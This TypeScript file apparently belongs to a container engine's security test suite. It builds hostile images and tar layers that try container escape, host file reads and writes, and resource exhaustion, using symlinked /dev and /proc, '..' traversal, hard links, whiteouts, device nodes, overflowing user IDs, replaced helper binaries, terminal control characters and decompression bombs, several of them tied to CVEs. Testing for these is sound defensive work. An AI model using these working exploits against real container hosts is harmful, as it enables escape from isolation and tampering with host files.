import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { memberBlocks, type TestMember, tar } from '../support/tar.js';
import type { Attack } from './attack.js';
import { hasControlCharacters } from './attack.js';
import { type AttackRun, mountsOf } from './attack-run.js';
import { isMasked } from './host-access.js';

/** An image that is hostile: its layers, its config, and what its user runs of it. */

const link = (name: string, target: string): TestMember => ({ name, type: '2', target });
const dir = (name: string): TestMember => ({ name, type: '5', mode: 0o755 });

/** Loads an image and runs `script` in it, if it was taken. */
async function runImage(
  attempt: AttackRun,
  layers: TestMember[][],
  config: Record<string, unknown>,
  script: string,
  flags: string[] = [],
): Promise<void> {
  const image = await attempt.image(layers, config);
  if (image !== undefined) await attempt.shell(script, { image, flags });
}

/** Looks at the mounts of a container of this image. */
async function mountsIn(
  attempt: AttackRun,
  layers: TestMember[][],
  config: Record<string, unknown>,
  isLost: (mounts: ReturnType<typeof mountsOf>) => boolean,
  script = ':',
): Promise<boolean> {
  const image = await attempt.image(layers, config);
  if (image === undefined) return false;
  let lost = false;
  const look = () => {
    for (const pid of attempt.processes()) {
      lost ||= isLost(mountsOf(pid));
      process.kill(pid, 'SIGKILL');
    }
  };
  await attempt.shell(`${script}; echo holding; while true; do sleep 1; done`, {
    image,
    when: { says: 'holding', look },
  });
  return lost;
}

const volumes = (...paths: string[]) => ({ Volumes: Object.fromEntries(paths.map((path) => [path, {}])) });

/** A layer whose members are tried in one image each: nothing may appear outside the tree. */
function layer(
  name: string,
  members: (attempt: AttackRun) => (TestMember | Buffer)[],
  rest: Partial<Attack> = {},
): Attack {
  return {
    name: `a layer: ${name}`,
    aim: 'host write',
    by: 'layer',
    alsoAsRoot: true,
    commit: async (attempt) => {
      const blocks = members(attempt).map((member) =>
        Buffer.isBuffer(member) ? member : memberBlocks(member),
      );
      const image = await attempt.image([Buffer.concat([...blocks, Buffer.alloc(1024)])]);
      const path = attempt.host.victim;
      if (image !== undefined)
        await attempt.shell(
          `cat /x /x/victim /d/victim ${path}; echo written >> /x; echo written > /d/victim`,
          { image },
        );
    },
    ...rest,
  };
}

const UP = '../../../../../../../../../..';

export const IMAGES: Attack[] = [
  {
    name: 'replacing the source of masks: VOLUME /dev with null as a link',
    aim: 'escape',
    by: 'image',
    reference: 'CVE-2025-31133',
    alsoAsRoot: true,
    commit: (attempt) =>
      mountsIn(
        attempt,
        [
          [
            dir('dev/'),
            link('dev/null', '/etc/resolv.conf'),
            link('etc/resolv.conf', '/proc/sys/kernel/core_pattern'),
          ],
        ],
        volumes('/dev', '/etc'),
        (mounts) =>
          ['/proc/keys', '/proc/timer_list'].some((path) => existsSync(path) && !isMasked(mounts, path)),
        'for f in /proc/keys /proc/timer_list /proc/kcore; do echo "|/tmp/evil" > $f; done',
      ),
  },
  {
    name: 'replacing the console and terminals: VOLUME /dev with links',
    aim: 'host write',
    by: 'image',
    reference: 'CVE-2025-52565',
    alsoAsRoot: true,
    flags: ['-t'],
    commit: async (attempt) => {
      const path = `/proc/1/fd/7/../../../../../../..${attempt.host.victim}`;
      const layers = [
        [
          dir('dev/'),
          dir('dev/pts/'),
          link('dev/console', path),
          link('dev/ptmx', path),
          link('dev/pts/ptmx', path),
        ],
      ];
      await runImage(attempt, layers, volumes('/dev'), 'ls -la /dev; echo written > /dev/console');
    },
  },
  {
    name: 'replacing /proc: VOLUME /proc and /proc/sys',
    aim: 'escape',
    by: 'image',
    reference: 'CVE-2019-19921, CVE-2023-27561',
    alsoAsRoot: true,
    commit: (attempt) =>
      mountsIn(attempt, [[dir('proc/'), dir('proc/sys/')]], volumes('/proc', '/proc/sys'), (mounts) => {
        const last = mounts.findLast(({ place }) => place === '/proc');
        return (
          last?.type !== 'proc' || mounts.some(({ place, type }) => place === '/proc/sys' && type !== 'proc')
        );
      }),
  },
  {
    name: '/proc and /sys are links in the image',
    aim: 'escape',
    by: 'image',
    reference: 'CVE-2019-19921',
    alsoAsRoot: true,
    commit: (attempt) =>
      mountsIn(attempt, [[link('proc', '/w'), link('sys', 'w')]], {}, (mounts) => {
        const isWhole = mounts.some(({ place, type }) => place === '/proc' && type === 'proc');
        return (
          !isWhole &&
          !mounts.some(({ place, type, root }) => place === '/w' && type === 'proc' && root === '/')
        );
      }),
  },
  {
    name: '--sysctl through a link: VOLUME /proc/sys',
    aim: 'host write',
    by: 'image',
    reference: 'CVE-2025-52881 (its class)',
    flags: ['--sysctl', 'net.ipv4.ip_unprivileged_port_start=80'],
    alsoAsRoot: true,
    commit: async (attempt) => {
      for (const fd of [3, 7, 32]) {
        const target = `/proc/self/fd/${fd}/../../../../../../../..${attempt.host.victim}`;
        const layers = [
          [dir('proc/sys/net/ipv4/'), link('proc/sys/net/ipv4/ip_unprivileged_port_start', target)],
        ];
        await runImage(attempt, layers, volumes('/proc/sys'), 'true');
      }
    },
  },
  {
    name: 'a volume at a link out of the image, to be filled from there',
    aim: 'host read',
    by: 'image',
    reference: 'CVE-2022-23648',
    alsoAsRoot: true,
    commit: async (attempt) => {
      const { folder } = attempt.host;
      for (const target of [folder, `${UP}${folder}`, `/proc/self/root${folder}`])
        await runImage(
          attempt,
          [[link('data', target)]],
          volumes('/data', `/w/${UP}${folder}`),
          'cat /data/victim; echo x > /data/victim',
        );
    },
  },
  {
    name: 'etc/passwd, etc/hosts, etc/resolv.conf and etc/hostname as links to a file of the host',
    aim: 'host write',
    by: 'image',
    reference: 'CVE-2018-15664 (its class)',
    alsoAsRoot: true,
    commit: async (attempt) => {
      const names = ['passwd', 'group', 'hosts', 'resolv.conf', 'hostname'];
      for (const target of [
        attempt.host.victim,
        `${UP}${attempt.host.victim}`,
        `/proc/self/fd/7/${UP}${attempt.host.victim}`,
      ]) {
        const members = names.map((name) => link(`etc/${name}`, target));
        await runImage(attempt, [members], {}, 'cat /etc/passwd /etc/hosts; echo written >> /etc/hosts', [
          '--add-host',
          'a:1.2.3.4',
        ]);
        if (process.getuid?.() !== 0)
          await runImage(attempt, [members], {}, 'cat /etc/passwd', ['--userns', 'keep-id']);
      }
    },
  },
  {
    name: 'WORKDIR and USER of an image: /proc/self/fd/N, links, ..',
    aim: 'escape',
    by: 'image',
    reference: 'CVE-2024-21626',
    alsoAsRoot: true,
    commit: async (attempt) => {
      const { folder, victim } = attempt.host;
      const script = `cat victim .${victim} ${UP}${victim}; echo x > new; echo x >> victim`;
      for (const place of ['/proc/self/fd/7', '/proc/self/fd/8/../../..', '/link', `/w/${UP}${folder}/new`])
        await runImage(attempt, [[link('link', folder)]], { WorkingDir: place, User: '../../etc:0' }, script);
      await runImage(attempt, [[link('link', folder)]], { WorkingDir: '/link/made' }, script);
    },
  },
  {
    name: 'a user id of an image that overflows',
    aim: 'escape',
    by: 'image',
    reference: 'CVE-2024-40635',
    commit: async (attempt) => {
      let isRoot = false;
      for (const User of ['4294967296', '4294967296:4294967296', '-4294967296', '65536:-1', '0x0', '1e0']) {
        const image = await attempt.image([], { User });
        if (image === undefined) continue;
        const { output } = await attempt.shell('echo "uid=$(id -u)."', { image });
        isRoot ||= output.includes('uid=0.');
      }
      return isRoot;
    },
  },
  {
    name: "an id in the image's etc/passwd that overflows",
    aim: 'escape',
    by: 'image',
    reference: 'CVE-2024-40635',
    commit: async (attempt) => {
      const passwd = {
        name: 'etc/passwd',
        content: 'evil:x:4294967296:4294967296::/:/bin/sh\nbad:x:-0:-0::/:/bin/sh\n',
      };
      let isRoot = false;
      for (const User of ['evil']) {
        const image = await attempt.image([[passwd]], { User });
        if (image === undefined) continue;
        isRoot ||= (await attempt.shell('echo "uid=$(id -u)."', { image })).output.includes('uid=0.');
      }
      return isRoot;
    },
  },
  {
    name: 'set-user-ID programs of an image, run by other users of the host',
    aim: 'host write',
    by: 'image',
    commit: async (attempt) => {
      const image = await attempt.image([[{ name: 'suid-program', content: '#!/bin/sh\n', mode: 0o4755 }]]);
      if (image === undefined) return false;
      await attempt.shell('true', { image });
      return isOpenToOthers(attempt.engine.home.folder, 'suid-program');
    },
  },
  {
    name: "control characters in an image's config, when it is printed",
    aim: 'confusion',
    by: 'image',
    commit: async (attempt) => {
      const evil = '\x1b]0;evil\x07\x1b[2J\x9b31m\r';
      const image = await attempt.image([], {
        Env: [`EVIL=${evil}`],
        Labels: { [`k${evil}`]: evil },
        Cmd: ['sh', '-c', `: ${evil}`],
        User: 'root',
        Volumes: { [`/v${evil}`]: {} },
        ExposedPorts: { [`80/${evil}`]: {} },
        StopSignal: evil,
      });
      if (image === undefined) return hasControlCharacters(attempt.output);
      const commands = [
        ['images'],
        ['history', '--no-trunc', image],
        ['inspect', image],
        ['image', 'inspect', '--format', '{{.Config.Labels}} {{.Config.Env}}', image],
        ['create', '--name', `${attempt.token}-c`, image],
        ['ps', '-a', '--no-trunc'],
        ['run', '--rm', image, 'true'],
        ['rm', '-f', `${attempt.token}-c`],
      ];
      for (const command of commands)
        if (hasControlCharacters((await attempt.command(command)).output)) return true;
      return false;
    },
  },
  {
    name: 'a config with absurd numbers, types and depth',
    aim: 'exhaustion',
    by: 'image',
    commit: async (attempt) => {
      const configs: Record<string, unknown>[] = [
        { Env: Array.from({ length: 1000 }).reduce((inner) => [inner], 'deep') },
        { Healthcheck: { Test: ['CMD', 'true'], Interval: -1, Timeout: 1e300, Retries: -5 } },
        { Healthcheck: { Test: ['CMD', 'true'], Interval: Number.MAX_SAFE_INTEGER, StartPeriod: 1e18 } },
        { Entrypoint: { length: 1e9 }, Cmd: 5 },
        {
          ExposedPorts: Object.fromEntries(Array.from({ length: 70_000 }, (_, port) => [`${port}/tcp`, {}])),
        },
        { Env: Array.from({ length: 20_000 }, (_, index) => `V${index}=${'x'.repeat(50)}`) },
        {
          __proto__: { polluted: true },
          constructor: { prototype: { polluted: true } },
          Labels: { __proto__: 'x' },
        },
        { StopSignal: '99999999999', WorkingDir: 'x'.repeat(100_000) },
        { Volumes: Object.fromEntries(Array.from({ length: 2000 }, (_, index) => [`/v/${index}`, {}])) },
      ];
      for (const config of configs) {
        const image = await attempt.image([], config);
        if (image === undefined) continue;
        const { isTooLate, output } = await attempt.run(['true'], { image });
        if (isTooLate || /unexpected error|at .*\.cjs:\d+|panic:|SIGSEGV/.test(output)) return true;
      }
      return /unexpected error|panic:/.test(attempt.output);
    },
  },
  {
    name: "an image's replacements of programs that the engine might run",
    aim: 'escape',
    by: 'image',
    reference: 'CVE-2019-14271',
    commit: async (attempt) => {
      const program = `#!/bin/sh\ncat ${attempt.host.victim}; echo x >> ${attempt.host.victim}\n`;
      const names = [
        'tar',
        'newuidmap',
        'newgidmap',
        'node',
        'fuse-overlayfs',
        'getent',
        'mount',
        'setpriv',
        'foster-init',
      ];
      const members = names.flatMap((name) => [
        { name: `usr/bin/${name}`, content: program, mode: 0o755 },
        { name: `usr/sbin/${name}`, content: program, mode: 0o755 },
      ]);
      const libraries = [
        'lib/x86_64-linux-gnu/libnss_files.so.2',
        'lib/x86_64-linux-gnu/libc.so.6',
        'etc/ld.so.preload',
      ];
      const image = await attempt.image([[...members, ...libraries.map((name) => ({ name, content: 'x' }))]]);
      if (image === undefined) return;
      const name = await attempt.detach('sleep 1000', [], image);
      await attempt.command(['cp', `${name}:/etc/passwd`, '-']);
      await attempt.command(['cp', `${attempt.engine.home.shared}/.`, `${name}:/w`]);
      await attempt.command(['exec', name, 'true']);
    },
  },
  layer('a name with ..', (s) => [{ name: `${UP}${s.host.folder}/new`, content: 'x' }], {
    reference: 'CVE-2014-9356',
  }),
  layer('an absolute name', (s) => [
    { name: `${s.host.folder}/new`, content: 'x' },
    { name: s.host.victim, content: 'x' },
  ]),
  layer(
    'a file through a link of an earlier member',
    (s) => [link('x', s.host.folder), { name: 'x/new', content: 'x' }, { name: 'x/victim', content: 'x' }],
    { reference: 'CVE-2014-9356' },
  ),
  layer('a file that replaces a link', (s) => [link('x', s.host.victim), { name: 'x', content: 'written' }]),
  layer('a hard link to a file of the host', (s) => [
    { name: 'x', type: '1', target: `${UP}${s.host.victim}` },
    { name: 'y', type: '1', target: s.host.victim },
    { name: 'x', content: 'written' },
  ]),
  layer('writing to a hard link that was made through a link', (s) => [
    link('d', s.host.folder),
    { name: 'x', type: '1', target: 'd/victim' },
    { name: 'x', content: 'written', mode: 0o4777 },
  ]),
  layer('whiteouts of .., of links and through links', (s) => [
    link('d', s.host.folder),
    { name: '.wh...' },
    { name: '.wh..' },
    { name: 'd/.wh.victim' },
    { name: 'd/.wh..wh..opq' },
    { name: `${UP}${s.host.folder}/.wh.victim` },
    { name: '.wh.d' },
  ]),
  layer('an opaque whiteout that is a link or a directory', (s) => [
    dir('d/'),
    link('d/.wh..wh..opq', s.host.folder),
    { name: 'd/.wh..wh..opq/victim', content: 'x' },
    { name: 'd/.wh..wh..opq', type: '5' },
  ]),
  layer("names in pax headers and GNU records that differ from the member's", (s) => [
    { name: 'good', pax: { path: `${UP}${s.host.folder}/new` }, content: 'x' },
    { name: 'x', type: '2', pax: { linkpath: s.host.folder }, target: 'w' },
    { name: 'good', pax: { path: 'x/victim' }, content: 'x' },
    { name: 'L', type: 'L', content: `${UP}${s.host.folder}/long\0` },
    { name: 'short', content: 'x' },
    { name: 'good', pax: { path: `w\0/${UP}${s.host.folder}/new` }, content: 'x' },
  ]),
  layer('modes, owners and attributes of directories through links', (s) => [
    link('d', s.host.folder),
    { name: 'd/', type: '5', mode: 0o4700, uid: 1 },
    { name: 'd', type: '5', mode: 0o4700, uid: 1 },
    link('x', s.host.victim),
    {
      name: 'x',
      type: '2',
      target: s.host.victim,
      mode: 0o4777,
      pax: { 'SCHILY.xattr.user.evil': '1', mtime: '1' },
    },
  ]),
  {
    name: 'a layer: devices of the host',
    aim: 'host read',
    by: 'layer',
    alsoAsRoot: true,
    commit: async (attempt) => {
      const device = (name: string, type: string, major: string, minor: string) => {
        const block = memberBlocks({ name, type, mode: 0o666 });
        block.write(`${major.padStart(7, '0')}\0`, 329, 'latin1');
        block.write(`${minor.padStart(7, '0')}\0`, 337, 'latin1');
        return block;
      };
      const disk = readFileSync(`/sys/block/${readdirSync('/sys/block')[0]}/dev`, 'utf8')
        .trim()
        .split(':')
        .map(Number);
      const blocks = [
        device('mem', '3', '1', '1'),
        device('disk', '4', (disk[0] ?? 0).toString(8), (disk[1] ?? 0).toString(8)),
      ];
      for (const block of blocks) {
        block.fill(' ', 148, 156);
        block.write(
          `${block
            .reduce((sum, byte) => sum + byte, 0)
            .toString(8)
            .padStart(6, '0')}\0 `,
          148,
          'latin1',
        );
      }
      const image = await attempt.image([Buffer.concat([...blocks, Buffer.alloc(1024)])]);
      if (image === undefined) return false;
      const { output } = await attempt.shell(
        'dd if=/disk bs=512 count=1 && echo got-""it; dd if=/mem bs=1 count=1 && echo got-""it',
        { image },
      );
      return output.includes('got-it');
    },
  },
  {
    name: 'a layer: a bomb of 4 GiB of zeros, with a limit set',
    aim: 'exhaustion',
    by: 'layer',
    fosterOnly: 'podman has no such limit',
    commit: async (attempt) => {
      const block = gzipSync(Buffer.alloc(64 << 20), { level: 9 });
      const head = gzipSync(memberBlocks({ name: 'bomb', size: 4 * 2 ** 30 }));
      const archive = Buffer.concat([
        head,
        ...Array.from({ length: 64 }, () => block),
        gzipSync(Buffer.alloc(1024)),
      ]);
      const file = join(attempt.host.work, 'bomb.tar.gz');
      writeFileSync(file, archive);
      await attempt.command(['run', '--rm', '--max-unpacked-size', '100m', file, 'true']);
      return sizeOf(attempt.engine.home.folder) > 2 * 2 ** 30;
    },
  },
  {
    name: 'a layer: a hole of 8 EiB, a sparse map of a million pieces, a million names in one header',
    aim: 'exhaustion',
    by: 'layer',
    commit: async (attempt) => {
      const sparse = (size: string, map: string) => ({
        name: 'hole',
        pax: {
          'GNU.sparse.major': '0',
          'GNU.sparse.minor': '1',
          'GNU.sparse.size': size,
          'GNU.sparse.map': map,
        },
        content: 'abcd',
      });
      const layers = [
        tar(sparse('9223372036854775807', '9223372036854775800,4')),
        tar(sparse('1000000000', Array.from({ length: 60_000 }, (_, index) => `${index * 100},0`).join(','))),
        tar({
          name: 'x',
          pax: Array.from({ length: 50_000 }, (_, index): [string, string] => [
            `SCHILY.xattr.user.a${index}`,
            'b',
          ]),
        }),
      ];
      for (const one of layers) {
        const image = await attempt.image([one]);
        if (/unexpected error|panic:/.test(attempt.output)) return true;
        if (image !== undefined && (await attempt.run(['true'], { image })).isTooLate) return true;
      }
      return false;
    },
  },
];

/** A file of that name to which others come through all its folders. */
function isOpenToOthers(folder: string, name: string): boolean {
  const visit = (path: string): boolean => {
    const info = statSync(path, { throwIfNoEntry: false });
    if (info === undefined || (info.mode & 0o001) === 0) return false;
    if (!info.isDirectory()) return path.endsWith(`/${name}`);
    try {
      return readdirSync(path).some((entry) => visit(join(path, entry)));
    } catch {
      return false;
    }
  };
  return ['data', 'run', 'podman'].some((top) => visit(join(folder, top)));
}

function sizeOf(folder: string): number {
  let size = 0;
  for (const entry of readdirSync(folder, { withFileTypes: true })) {
    const path = join(folder, entry.name);
    try {
      if (entry.isDirectory()) size += sizeOf(path);
      else size += (statSync(path, { throwIfNoEntry: false })?.blocks ?? 0) * 512;
    } catch {
      // of another user
    }
  }
  return size;
}
